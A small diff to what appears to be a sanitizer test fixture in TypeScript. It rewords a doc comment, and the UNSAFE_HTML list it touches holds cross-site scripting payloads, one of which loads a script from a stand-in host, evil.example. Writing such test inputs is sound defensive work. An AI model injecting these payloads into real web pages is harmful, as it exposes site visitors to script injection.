@@ -1,4 +1,4 @@
-/** HTML that runs a script, loads something or changes its meaning when it is parsed again, unless it is cleaned. */
+/** HTML that runs a script, loads a resource or changes its meaning when it is parsed again, unless it is cleaned. */
 export const UNSAFE_HTML: readonly string[] = [
   '<script>alert(1)</script>',
   '<ScRiPt src=//evil.example/x.js></sCrIpT >',
